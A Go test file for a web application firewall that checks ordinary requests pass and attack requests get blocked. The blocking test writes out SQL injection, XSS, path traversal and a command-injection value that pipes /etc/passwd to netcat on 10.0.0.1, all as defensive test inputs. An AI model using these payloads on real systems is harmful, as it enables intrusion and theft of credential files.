package edgewaf

import (
	"net/http"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestFirewallPassesOrdinaryRequests(t *testing.T) {
	g := newWafRig(t, "")
	for name, r := range map[string]*http.Request{
		"page":        browse("GET", "/", ""),
		"search":      browse("GET", "/search?q=select+shoes+from+union+square&page=2", ""),
		"cookies":     browse("GET", "/account", "", "Cookie: session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"),
		"form":        browse("POST", "/login", "user=alice&password=correct+horse+battery", "Content-Type: application/x-www-form-urlencoded"),
		"json":        browse("POST", "/api/items", `{"name":"O'Reilly","tags":["a","b"],"price":12.5}`, "Content-Type: application/json"),
		"put":         browse("PUT", "/api/items/7", `{"name":"x"}`, "Content-Type: application/json"),
		"patch":       browse("PATCH", "/api/items/7", `[{"op":"replace","path":"/name","value":"y"}]`, "Content-Type: application/json-patch+json"),
		"delete":      browse("DELETE", "/api/items/7", ""),
		"beacon":      browse("POST", "/beacon", `{"event":"load","ms":120}`, "Content-Type: text/plain;charset=UTF-8"),
		"beacon text": browse("POST", "/beacon", "load 120", "Content-Type: text/plain"),
		"expect":      browse("POST", "/api/items", `{"a":1}`, "Content-Type: application/json", "Expect: 100-continue"),
		"multipart":   browse("POST", "/upload", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\x00\x01\r\n--b--\r\n", "Content-Type: multipart/form-data; boundary=b"),
		"preflight":   browse("OPTIONS", "/api/items", "", "Origin: https://app.example.com", "Access-Control-Request-Method: PUT"),
	} {
		w := g.do(r)
		require.Equal(t, http.StatusOK, w.Code, "%s: %s %+v", name, w.Body, g.state.latest(1, nil))
	}
}

func TestFirewallBlocksAttacks(t *testing.T) {
	g := newWafRig(t, `"basic": "off"`)
	for name, r := range map[string]*http.Request{
		"sql":       browse("GET", "/search?q=1'+union+select+password+from+users--+-", ""),
		"xss":       browse("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
		"traversal": browse("GET", "/file?name=../../../../etc/passwd", ""),
		"rce":       browse("POST", "/run", "cmd=;cat+/etc/passwd|nc+10.0.0.1+80", "Content-Type: application/x-www-form-urlencoded"),
		"json":      browse("POST", "/api", `{"q":"1' union select password from users-- -"}`, "Content-Type: application/json"),
		"text json": browse("POST", "/api", `{"q":"1' union select password from users-- -"}`, "Content-Type: text/plain"),
		"scanner":   browse("GET", "/", "", "User-Agent: sqlmap/1.8"),
	} {
		w := g.do(r)
		require.Equal(t, http.StatusForbidden, w.Code, name)
		require.Contains(t, w.Body.String(), `"error":"blocked by WAF","rule_id":"9`, name)
	}
	require.Zero(t, g.asked)
}
